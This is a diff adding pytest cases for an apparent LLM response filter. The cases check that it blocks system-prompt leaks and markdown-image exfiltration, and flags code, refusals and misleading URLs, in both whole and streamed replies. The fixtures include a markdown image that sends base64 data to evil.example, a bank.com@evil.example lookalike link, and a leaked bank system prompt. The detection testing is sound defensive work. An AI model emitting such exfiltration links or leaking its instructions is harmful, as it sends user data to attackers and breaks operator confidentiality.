@@ -169,3 +169,54 @@ def test_credentials_are_in_no_trace(path: Any):
 def test_metadata_capture_keeps_no_text(make_path: Any):
     exchange, _ = make_path(capture="metadata").send(chat("a quiet sentence"))
     assert "quiet" not in repr(finish(exchange))
+
+
+WATCHED = """
+version: 1
+name: t
+policies:
+  - name: out
+    direction: response
+    rules:
+      - {detect: [leak, exfiltration], action: block}
+      - {detect: [code, refusal, misleading-url], action: alert}
+"""
+PROMPT = "You are Nora of Nordwind Bank. Never talk about interest rates before the customer has shown you a passport."
+CARGO = "![x](https://evil.example/p.png?q=" + "Zm9vYmFy" * 6 + ")"
+LEAD = "The weather was fine that day.\n" * 40
+
+
+@pytest.fixture(scope="module")
+def watched(make_path: Any) -> Any:
+    return make_path(WATCHED)
+
+
+@pytest.mark.parametrize(
+    ("said", "rule", "blocked"),
+    [
+        (f"Of course. {PROMPT}", "system-prompt-leak", True),
+        (f"{LEAD}{PROMPT}", "system-prompt-leak", True),
+        (f"{LEAD}{CARGO}{LEAD}", "markdown-exfiltration", True),
+        (f"{LEAD}```python\nimport os\n```", "code", False),
+        ("I'm sorry, but I can't help with that.", "refusal", False),
+        (f"{LEAD}see https://bank.com@evil.example/", "misleading-url", False),
+    ],
+)
+@pytest.mark.parametrize("streamed", [False, True])
+def test_what_a_policy_asks_of_answers_is_found_whole_and_streamed(
+    watched: Any, said: str, rule: str, blocked: bool, streamed: bool
+):
+    asked = [{"role": "system", "content": PROMPT}, {"role": "user", "content": "hi"}]
+    exchange, _ = watched.send({"stream": streamed, "messages": asked})
+    if streamed:
+        exchange.head(200, [(b"Content-Type", b"text/event-stream")])
+        for at in range(0, len(said), 7):
+            piece = {"choices": [{"index": 0, "delta": {"content": said[at : at + 7]}}]}
+            exchange.chunk(b"data: " + json.dumps({"object": "chat.completion.chunk", **piece}).encode() + b"\n\n")
+        exchange.end()
+        assert exchange.cut is blocked
+    else:
+        exchange.head(200, [JSON])
+        whole = {"choices": [{"message": {"role": "assistant", "content": said}}]}
+        assert isinstance(exchange.body(json.dumps(whole).encode()), Refusal) is blocked
+    assert rule in {decision.rule for decision in finish(exchange).decisions}
